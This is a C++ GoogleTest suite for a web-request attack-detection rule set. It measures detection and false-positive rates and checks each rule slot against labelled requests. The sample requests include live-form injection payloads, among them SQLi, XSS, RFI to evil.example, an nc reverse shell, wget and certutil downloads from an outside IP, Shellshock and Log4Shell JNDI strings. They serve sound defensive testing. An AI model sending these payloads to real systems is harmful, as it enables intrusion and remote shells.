// The stored rule set against labelled requests: per-category detection and the benign
// false-positive rate of the compact set (slots 1-6) and the broad set (slots 1-8), on the
// train and dev splits and the older hand-written corpus (tests/data/rules/) and, when
// present, on the shared corpus. Also every slot against its own samples, every slot
// against hostile 1 MB subjects, and which slots the literal gate can skip.

#include <gtest/gtest.h>

#include <algorithm>
#include <chrono>
#include <cstddef>
#include <cstdint>
#include <cstdio>
#include <filesystem>
#include <fstream>
#include <map>
#include <optional>
#include <string>
#include <string_view>
#include <vector>

#include "rules/compiled_rule_set.h"
#include "rules/literal_gate.h"
#include "rules/new_des.h"
#include "rules/rule_slots.h"

namespace ostrel {
namespace {

constexpr std::size_t kCompactSlots = 6;
constexpr std::size_t kBroadSlots = 8;

// One labelled request: its category (attack category or benign source) and the subject
// the rules see.
struct Sample {
  std::string category;
  std::string subject;
};

std::string LowerAsciiLetters(std::string text) {
  for (char& c : text) {
    if (c >= 'A' && c <= 'Z') c = static_cast<char>(c - 'A' + 'a');
  }
  return text;
}

// The subject the engine builds from a corpus entry. A request target ("/path?query") is
// fed as an Apache/Nginx request text; an IIS entry (log type "0") is the URI query field
// itself; anything else is already a whole subject (a Tomcat request text through the
// user agent, or an Apache request text with another method).
std::string SubjectOf(std::string_view log_type, std::string_view text) {
  if (log_type != "0" && !text.empty() && text.front() == '/') {
    return LowerAsciiLetters("get " + std::string(text) + " http/1.1");
  }
  return LowerAsciiLetters(std::string(text));
}

std::vector<std::string> SplitTabs(const std::string& line) {
  std::vector<std::string> fields;
  std::size_t start = 0;
  while (true) {
    const std::size_t tab = line.find('\t', start);
    fields.push_back(
        line.substr(start, tab == std::string::npos ? std::string::npos : tab - start));
    if (tab == std::string::npos) return fields;
    start = tab + 1;
  }
}

// Reads a corpus file: "category<TAB>log type<TAB>text" (our own) or "category<TAB>target"
// (the shared corpus). Fails the test on a malformed line.
std::vector<Sample> ReadCorpus(const std::filesystem::path& path) {
  std::ifstream in(path);
  EXPECT_TRUE(in) << "cannot open " << path;
  std::vector<Sample> samples;
  std::string line;
  int number = 0;
  while (std::getline(in, line)) {
    ++number;
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (line.empty()) continue;
    const std::vector<std::string> fields = SplitTabs(line);
    if (fields.size() == 3) {
      samples.push_back({fields[0], SubjectOf(fields[1], fields[2])});
    } else if (fields.size() == 2) {
      samples.push_back({fields[0], SubjectOf("any", fields[1])});
    } else {
      ADD_FAILURE() << path << ":" << number << ": expected 2 or 3 tab-separated fields";
    }
  }
  return samples;
}

struct Tally {
  std::size_t samples = 0;
  std::size_t flagged = 0;
  double Percent() const { return samples == 0 ? 0.0 : 100.0 * flagged / samples; }
};

struct SetResult {
  std::map<std::string, Tally> by_category;
  Tally all;
  std::size_t limits = 0;  // subjects on which a slot stopped at a match or depth limit
};

SetResult Measure(const CompiledRuleSet& rules, const std::vector<Sample>& samples) {
  RuleScratch scratch = rules.MakeScratch();
  SetResult result;
  for (const Sample& sample : samples) {
    const RuleVerdict verdict = rules.Test(sample.subject, scratch);
    if (verdict.outcome == RuleOutcome::kLimit) ++result.limits;
    Tally& tally = result.by_category[sample.category];
    ++tally.samples;
    ++result.all.samples;
    if (verdict.matched()) {
      ++tally.flagged;
      ++result.all.flagged;
    }
  }
  return result;
}

void PrintTable(const std::string& title, const SetResult& result) {
  std::printf("%s\n  %-24s %8s %10s\n", title.c_str(), "category", "samples", "flagged %");
  for (const auto& [category, tally] : result.by_category) {
    std::printf("  %-24s %8zu %9.2f%%\n", category.c_str(), tally.samples, tally.Percent());
  }
  std::printf("  %-24s %8zu %9.2f%%\n", "all", result.all.samples, result.all.Percent());
}

// Floors of what a set reaches on one corpus: the measured figures rounded down a little,
// so a change that loses detection or gains false alarms shows.
struct Floors {
  double all_attacks;    // lowest share of all attack samples flagged, percent
  double each_category;  // lowest share per attack category, percent
  double benign;         // highest share of benign samples flagged, percent
};

struct CorpusCase {
  const char* name;
  const char* attacks;  // file names in the corpus folder
  const char* benign;
  Floors compact;
  Floors broad;
};

// Measures both sets on one corpus, prints the tables and checks the floors.
void CheckCorpus(const CorpusCase& c, const std::filesystem::path& folder) {
  const std::vector<Sample> attacks = ReadCorpus(folder / c.attacks);
  const std::vector<Sample> benign = ReadCorpus(folder / c.benign);
  ASSERT_FALSE(attacks.empty());
  ASSERT_FALSE(benign.empty());
  struct Set {
    const char* name;
    std::size_t slots;
    Floors floors;
  };
  for (const Set& set :
       {Set{"compact", kCompactSlots, c.compact}, Set{"broad", kBroadSlots, c.broad}}) {
    const CompiledRuleSet rules(StoredRuleSlots(), set.slots);
    const SetResult detected = Measure(rules, attacks);
    const SetResult flagged = Measure(rules, benign);
    PrintTable(std::string(c.name) + ", " + set.name + " set, attacks detected:", detected);
    PrintTable(std::string(c.name) + ", " + set.name + " set, benign flagged:", flagged);
    EXPECT_GE(detected.all.Percent(), set.floors.all_attacks) << c.name << " " << set.name;
    for (const auto& [category, tally] : detected.by_category) {
      EXPECT_GE(tally.Percent(), set.floors.each_category)
          << c.name << " " << set.name << " " << category;
    }
    EXPECT_LE(flagged.all.Percent(), set.floors.benign) << c.name << " " << set.name;
    EXPECT_EQ(detected.limits + flagged.limits, 0u) << c.name << " " << set.name;
  }
}

// Train and dev come from tools/rules/corpus.py (public test data and bench traffic); the
// rules were tuned on train only. "own" is the hand-written corpus the rules grew with.
// Floors just below what the sets reached when the rules were last changed (see
// docs/rules.md): {all attacks, lowest category, highest benign share}, compact then broad.
constexpr CorpusCase kOwnCorpora[] = {
    {"train", "train_attacks.tsv", "train_benign.tsv", {91.9, 70.0, 0.0}, {94.3, 75.0, 0.25}},
    {"dev", "dev_attacks.tsv", "dev_benign.tsv", {86.4, 47.0, 0.0}, {90.5, 73.0, 0.5}},
    {"own", "attacks.tsv", "benign.tsv", {99.5, 99.0, 0.0}, {99.5, 99.0, 0.4}},
};

class OwnCorpusTest : public testing::TestWithParam<CorpusCase> {};

TEST_P(OwnCorpusTest, ReachesItsFloors) {
  CheckCorpus(GetParam(), std::filesystem::path(OSTREL_TEST_DATA) / "rules");
}

INSTANTIATE_TEST_SUITE_P(RuleCorpus, OwnCorpusTest, testing::ValuesIn(kOwnCorpora),
                         [](const testing::TestParamInfo<CorpusCase>& info) {
                           return std::string(info.param.name);
                         });

TEST(RuleCorpusTest, SharedCorpusReachesItsFloors) {
  const std::filesystem::path folder = OSTREL_SHARED_CORPUS;
  if (!std::filesystem::exists(folder / "attacks.tsv") ||
      !std::filesystem::exists(folder / "benign.tsv")) {
    GTEST_SKIP() << "no shared corpus at " << folder;
  }
  CheckCorpus({"shared corpus", "attacks.tsv", "benign.tsv", {99.0, 92.0, 0.0}, {99.5, 95.0, 0.0}},
              folder);
}

TEST(RuleCorpusTest, OwnCorpusCoversEveryCategory) {
  const std::vector<Sample> attacks =
      ReadCorpus(std::filesystem::path(OSTREL_TEST_DATA) / "rules" / "attacks.tsv");
  std::map<std::string, std::size_t> counts;
  for (const Sample& sample : attacks) ++counts[sample.category];
  for (const char* category :
       {"sqli", "xss", "traversal_lfi_rfi", "cmdi_rce", "java_ognl_jndi_ssti", "webshell_probe"}) {
    EXPECT_GE(counts[category], 50u) << category;
  }
}

// One stored slot on its own, as a set of one.
CompiledRuleSet SlotAlone(std::size_t slot) {
  return CompiledRuleSet(StoredRuleSlots().subspan(slot - 1, 1), 1);
}

// Every slot has requests it exists for and look-alikes it must leave alone.
struct SlotCase {
  std::size_t slot;  // 1-based, as the slots are numbered in the window and the notes
  bool attack;
  const char* subject;  // as the engine sees it: lower case, not decoded
};

void PrintTo(const SlotCase& c, std::ostream* os) {
  *os << "slot " << c.slot << (c.attack ? " must match " : " must not match ") << c.subject;
}

class SlotSampleTest : public testing::TestWithParam<SlotCase> {};

TEST_P(SlotSampleTest, MatchesItsAttacksOnly) {
  const SlotCase& c = GetParam();
  const CompiledRuleSet rules = SlotAlone(c.slot);
  RuleScratch scratch = rules.MakeScratch();
  const RuleVerdict verdict = rules.Test(c.subject, scratch);
  EXPECT_NE(verdict.outcome, RuleOutcome::kLimit);
  EXPECT_EQ(verdict.matched(), c.attack);
}

constexpr SlotCase kSlotCases[] = {
    // Slot 1: SQL injection.
    {1, true, "get /item?id=1%27%20or%20%271%27%3d%271 http/1.1"},
    {1, true, "get /item?id=-1+union+all+select+1,2,group_concat(table_name)-- http/1.1"},
    {1, true, "get /item?id=1;waitfor%20delay%20%270:0:5%27-- http/1.1"},
    {1, true, "get /item?id=1/**/and/**/sleep(5) http/1.1"},
    {1, true, "id=1%2527%2520or%25201%253d1--"},
    {1, false, "get /search?q=o%27brien+and+d%27angelo http/1.1"},
    {1, false, "get /search?q=union+station+select+your+size http/1.1"},
    {1, false, "get /blog/drop-shipping-and-order-by-phone http/1.1"},
    {1, true, "get /item?id=a%27%20%3c%3d%20%27b http/1.1"},
    {1, true, "get /item?id=%27%7b%22a%22:1%7d%27::jsonb http/1.1"},
    {1, false, "get /s?q=rock+%27n%27+roll&a=2001:db8::1 http/1.1\" 200 1 \"-\" \"curl\""},
    {1, true, "get /login?user=admin%27%20or%20email%20notnull-- http/1.1"},
    {1, true, "get /item?id=1%27union%20select http/1.1"},
    {1, true, "get /item?id=1%27%7c%7cpg_sleep(5)-- http/1.1"},
    {1, true, "get /item?id=12%27 http/1.1"},
    {1, true, "get /item?id=lo_import(%27/etc/passwd%27) http/1.1"},
    {1, true, "get /item?id=1%20in%20(select%20%2a%20from%20users) http/1.1"},
    {1, true, "get /item?id=1%20and%20(select%20(ord(left(user(),1))))>64 http/1.1"},
    {1, false, "get /s?q=it%27s+done--+l%27or%c3%a9al+-- http/1.1"},
    {1, false, "get /api?$filter=name%20eq%20%27bob%27%20and%20startswith(name,%27b%27) http/1.1"},
    {1, false, "get /s?q=choose+or+(select+a+size)+top+10+-- http/1.1"},
    {1, true, "get /item?id=1%22%20or%20not%208936%3d9933 http/1.1"},
    {1, true, "get /item?id=(select%20(%27foo%27%20-%201)%20from%20dual) http/1.1"},
    {1, false, "get /s?q=select+a+dress+from+dual-tone+range http/1.1"},
    {1, true, "get /item?id=5%27+div+1+or+%271 http/1.1"},
    {1, true, "get /item?id=1%27%2acolumn+is+null+or+%271 http/1.1"},
    {1, false, "get /item?name=o%27neil-%27s http/1.1"},
    {1, true, "get /item?id=aa%27%7c3%21%3d%274 http/1.1"},
    {1, true, "get /item?id=(%20(select%201)%20)%20%20-- http/1.1"},
    {1, true, "get /item?id=group_concat%28 http/1.1"},
    {1, false, "get /s?q=rock%27s+-+%27n%27+roll&sort=date&fields=max(price) http/1.1"},
    {1, false, "get /s?q=80%27s+music+and+90%27s http/1.1"},
    {1, true, "get /login?email=admin%40shop.example%27; http/1.1"},
    {1, false, "get /p?q=%27x%27;y=2 http/1.1"},
    {1, true, "get /item?sort=id%20having%20(1%20or%201) http/1.1"},
    {1, false, "get /s?q=having+(1+or+2+kids) http/1.1"},
    {1, true, "get /item?id=1%e2%80%99%20or%20%e2%80%991%e2%80%99%3d%e2%80%991 http/1.1"},
    {1, false, "get /s?q=it%e2%80%99s+or+%e2%80%9890s http/1.1"},
    {1, true, "get /item?id=x%27like-%27x http/1.1"},
    {1, true, "get /item?id=x%22in+%281%29 http/1.1"},
    {1, true, "get /item?q=a%27%20-%20%27b http/1.1"},
    {1, false, "get /search?q=l%27or+noir+rock%27n%27roll http/1.1"},
    {1, false, "get /s?q=5%27+-+6%27+tall http/1.1\" 200 1 \"-\" \"curl\""},
    // Slot 2: cross-site scripting.
    {2, true, "get /x?a=%22onwhatever%3d1 http/1.1"},
    {2, true, "get /x?%20%20onanything%3d=1 http/1.1"},
    {2, true, "get /x?a=%3cy%20xmlns:z=%22urn:x%22 http/1.1"},
    {2, false, "get /x?online=1&q=%22on+sale%22 http/1.1"},
    {2, true, "get /s?q=%3cscript%3ealert(1)%3c/script%3e http/1.1"},
    {2, true, "get /s?q=%22%3e%3cimg%20src%3dx%20onerror%3dprompt(1)%3e http/1.1"},
    {2, true, "get /r?u=javascript:alert(document.cookie) http/1.1"},
    {2, true, "get /s?q=%253csvg%2520onload%253dalert(1)%253e http/1.1"},
    {2, false, "get /s?q=javascript+the+good+parts http/1.1"},
    {2, false, "get /s?q=price+%3c+100+and+size+%3e+10 http/1.1"},
    {2, false, "get /forum/post?body=try+%3ccode%3egit+status%3c%2fcode%3e http/1.1"},
    {2, true, "get /r?u=ja%26tab%3bvascript:x http/1.1"},
    // Slot 3: path traversal, local and remote file inclusion.
    {3, true, "get /download?file=../../../../etc/passwd http/1.1"},
    {3, true, "get /download?file=..%252f..%252f..%252fwindows%252fwin.ini http/1.1"},
    {3, true, "get /index.php?page=php://filter/convert.base64-encode/resource=index http/1.1"},
    {3, true, "get /index.php?page=http://evil.example/shell.txt? http/1.1"},
    {3, false, "get /redirect?url=https%3a%2f%2fpartner.example.org%2foffer%3fid%3d7 http/1.1"},
    {3, false, "get /docs/getting-started/../install.html http/1.1"},
    {3, false, "get /files?path=%2fdocuments%2freports%2f2024 http/1.1"},
    {3, true, "get /index.php?page=//evil.example/x.php http/1.1"},
    {3, false, "get /index.php?file=//cdn.example.com/img/logo.png http/1.1"},
    // Slot 4: OS command injection and code execution.
    {4, true, "get /x?a=%7b%2cid%7d http/1.1"},
    {4, true, "get /x?a=%7bls%2c%7d http/1.1"},
    {4, true, "get /x?a=%7e%2d1 http/1.1"},
    {4, true, "get /x?a=1%3bhtop http/1.1"},
    {4, false, "get /x?a=%7b1%2c2%7d&b=~me&c=laptop+top http/1.1"},
    {4, true, "get /ping?host=127.0.0.1%3bcat%20/etc/passwd http/1.1"},
    {4, true, "get /ping?host=x%7cnc%20198.51.100.7%204444%20-e%20/bin/sh http/1.1"},
    {4, true, "get /cgi-bin/x http/1.1\" 200 1 \"-\" \"() { :; }; /bin/bash -c id\""},
    {4, true, "get /x.php?c=%3c?php%20system($_get[1]);?%3e http/1.1"},
    {4, false, "get /s?q=cat+food+and+dog+toys http/1.1"},
    {4, false, "get /api/products?fields=name|price|sku http/1.1"},
    {4, false, "get /s?q=tom+%26+jerry http/1.1"},
    {4, true, "get /?cmd=%3a%28%29%7b+%3a%7c%3a%26+%7d%3b%3a http/1.1"},
    {4, false, "get /s?q=f%28x%29+%3d+%7bx%7d http/1.1"},
    {4, true, "get /ping?host=127.0.0.1%3b%27wh%27oami http/1.1"},
    {4, true, "get /ping?host=%7c%22w%22get%20http://198.51.100.7/x http/1.1"},
    {4, true, "get /ping?host=;c\\at%20/e%3fc/p%3fss%3f%3f http/1.1"},
    {4, true, "get /ping?host=%7b%2cwhoami%7d http/1.1"},
    {4, true, "get /ping?host=;{cat,/etc/passwd} http/1.1"},
    {4, true, "get /ping?host=%2f%3f%3f%3f%2fb%3f%3fh http/1.1"},
    {4, true, "get /x.php?c=system(whoami) http/1.1"},
    {4, true, "get /ping?host=;\\ls%20-la http/1.1"},
    {4, false, "get /s?q=don%27t+stop+believin%27+rock+%27n%27+roll http/1.1"},
    {4, false, "get /graphql?query=%7buser%7bid,name,email%7d%7d http/1.1"},
    {4, false, "get /s?q=%27cat%27+videos+what%27s+new+in+python http/1.1"},
    {4, true, "get /ping?host=127.0.0.1%3bwho http/1.1"},
    {4, false, "get /s?q=rock;top+see;history+r%26w http/1.1"},
    {4, true,
     "get /ping?host=x%26certutil.exe%20-urlcache%20-f%20http://198.51.100.7/x.exe http/1.1"},
    {4, true, "get /ping?host=;$%27\\x63\\x61\\x74%27%20/etc/hosts http/1.1"},
    {4, false, "get /s?q=q%26a+set+-up+r%26d+find+/help http/1.1"},
    {4, true, "get /contact?msg=x%0d%0amail%20from%3a%3csmith%40bar.example%3e http/1.1"},
    {4, true, "get /contact?msg=x%0d%0aa001%20uid%20store%20231%3a233 http/1.1"},
    {4, false, "get /contact?msg=hi%0d%0aa100+search+results%0d%0amail+from:+me http/1.1"},
    {4, true, "get /x?a=print_r(scandir(%27.%27)) http/1.1"},
    {4, false, "get /wiki?title=print_r+function http/1.1"},
    {4, true, "get /x?f=%24%7b%27sys%27%7d(%27id%27) http/1.1"},
    {4, false, "get /tpl?x=%24%7bname%7d+(draft) http/1.1"},
    {4, true, "get /x?f=(%5b%27system%27%5d)%5b0%5d(%27id%27) http/1.1"},
    {4, false, "get /api?filter%5bsystem%5d=linux&sort=(name) http/1.1"},
    {4, true, "get /x?c=busybox%20-c%20id http/1.1"},
    // Slot 5: Java, OGNL, JNDI, expression and template injection; Weblogic and Tomcat.
    {5, true, "get / http/1.1\" 200 1 \"-\" \"${jndi:ldap://198.51.100.7/a}\""},
    {5, true, "get /?x=%24%7b%24%7blower:j%7dndi:rmi://evil.example/x%7d http/1.1"},
    {5, true,
     "get /a.action?redirect:%24%7b%23a%3dnew%20java.lang.processbuilder(%27id%27)%7d http/1.1"},
    {5, true, "get /wls-wsat/coordinatorporttype http/1.1"},
    {5, true, "get /page?name=%7b%7b7*7%7d%7d http/1.1"},
    {5, false, "get /s?q=java.lang.nullpointerexception http/1.1"},
    {5, false, "get /s?q=log4j+vulnerability+jndi+lookup http/1.1"},
    {5, false, "get /template?name=%7b%7bitem.title%7d%7d http/1.1"},
    {5, true, "get /x?foo=exec%09%28blah%29 http/1.1"},
    {5, true, "get /x?foo=serialize%23c%0a%28%29 http/1.1"},
    {5, false, "get /s?q=solar+system+%28planets%29 http/1.1"},
    // Slot 6: web shells, scanner and administration probes.
    {6, true, "get /script?script=println(1) http/1.1"},
    {6, false, "get /docs/script?page=2 http/1.1"},
    {6, true, "get /.git/config http/1.1"},
    {6, true, "get /wwwroot.rar http/1.1"},
    {6, true, "get /manager/html http/1.1"},
    {6, true, "get /uploads/c99.php?act=ls http/1.1"},
    {6, true, "get / http/1.1\" 404 1 \"-\" \"mozilla/5.00 (nikto/2.1.6)\""},
    {6, false, "get /downloads/setup-3.1.4.zip http/1.1"},
    {6, false, "get /s?q=web.config+transform http/1.1"},
    {6, false, "get /.well-known/security.txt http/1.1"},
    {6, true, "get /.cursorignore http/1.1"},
    {6, true, "get /wp-content/error.log http/1.1"},
    {6, false, "get /blog/cursor-rules-for-ai?page=2 http/1.1"},
    {6, true, "get /wp-content/plugins/wp-file-manager/lib/php/connector.minimal.php http/1.1"},
    {6, true, "get /wp-conflg.php http/1.1"},
    {6, true, "get /+cscoe+/files/file_list.json?path=/ http/1.1"},
    {6, false, "get /+cscoe+/logon.html http/1.1"},
    // Slot 7: wider SQL and script keywords.
    {7, true, "get /item?id=5%20and%20sleep(3) http/1.1"},
    {7, true, "get /item?id=1%27%20or%20x%3dx http/1.1"},
    {7, true, "get /page?q=%3cdiv%20style%3dx%3e http/1.1"},
    {7, false, "get /search?q=o%27reilly+javascript+book http/1.1"},
    {7, false, "get /blog?tag=c%2b%2b http/1.1"},
    // Slot 8: wider traversal, command, probe and encoding tricks.
    {8, true, "get /file?name=..%2fconfig.ini http/1.1"},
    {8, true, "get /a?b=%c0%ae%c0%ae%c0%af http/1.1"},
    {8, true, "get /x?name=%73%65lect http/1.1"},
    {8, true, "trace"},
    {8, false, "get /jsp/index.jsp;jsessionid=a1b2c3d4e5f6 http/1.1"},
    {8, false, "get /s?q=50%25+off+shoes http/1.1"},
};

INSTANTIATE_TEST_SUITE_P(Slots, SlotSampleTest, testing::ValuesIn(kSlotCases));

// Hostile 1 MB subjects end at no match limit on any slot: the patterns have no nested
// unbounded repetition, so their work grows linearly with the subject. Prints each slot's
// time over all units.
TEST(RuleHostileTest, MegabyteSubjectsStayWithinLimits) {
  constexpr std::size_t kSize = 1 << 20;
  const char* const kUnits[] = {
      "union select ",
      "%27",
      "%27%20or%20",
      "<<<<",
      "../",
      "%2e%2e%2f",
      "a",
      "((",
      "%",
      "${${",
      "{{",
      "%20",
      "/**/",
      "1=1 and ",
      "<script",
      "%c0%ae",
      "%0a",
      "\\n",
      "   ",
      "&#x3c",
      "/etc/",
      "c:\\",
      "order by 1 ",
  };
  std::vector<std::string> subjects;
  for (const char* unit : kUnits) {
    std::string subject;
    subject.reserve(kSize + 16);
    while (subject.size() < kSize) subject += unit;
    subjects.push_back(std::move(subject));
  }
  for (std::size_t slot = 1; slot <= kBroadSlots; ++slot) {
    const CompiledRuleSet rules = SlotAlone(slot);
    RuleScratch scratch = rules.MakeScratch();
    rules.Test("", scratch);  // compiles the slot and its literal gate outside the timing
    const auto start = std::chrono::steady_clock::now();
    for (std::size_t i = 0; i < subjects.size(); ++i) {
      const auto unit_start = std::chrono::steady_clock::now();
      EXPECT_NE(rules.Test(subjects[i], scratch).outcome, RuleOutcome::kLimit)
          << "slot " << slot << " unit " << kUnits[i];
      const std::chrono::duration<double, std::milli> unit_time =
          std::chrono::steady_clock::now() - unit_start;
      if (unit_time.count() > 100) {
        std::printf("  slot %zu, unit \"%s\": %.0f ms\n", slot, kUnits[i], unit_time.count());
      }
    }
    const std::chrono::duration<double, std::milli> time = std::chrono::steady_clock::now() - start;
    std::printf("slot %zu: %.0f ms over %zu hostile subjects\n", slot, time.count(),
                subjects.size());
  }
}

// Which stored slots the literal gate can skip on a subject that lacks their literals.
// Informative only: a slot without a required set is tested on every subject.
TEST(RuleGateTest, PrintsWhichSlotsAreGated) {
  for (std::size_t slot = 1; slot <= kBroadSlots; ++slot) {
    const std::optional<std::vector<std::string>> literals =
        RequiredLiterals(DecryptHexText(StoredRuleSlots()[slot - 1], kRuleKeyText));
    if (!literals) {
      std::printf("slot %zu: not gated\n", slot);
      continue;
    }
    std::size_t shortest = SIZE_MAX;
    for (const std::string& literal : *literals) shortest = std::min(shortest, literal.size());
    std::printf("slot %zu: gated, %zu literals, shortest %zu bytes\n", slot, literals->size(),
                shortest);
  }
}

}  // namespace
}  // namespace ostrel
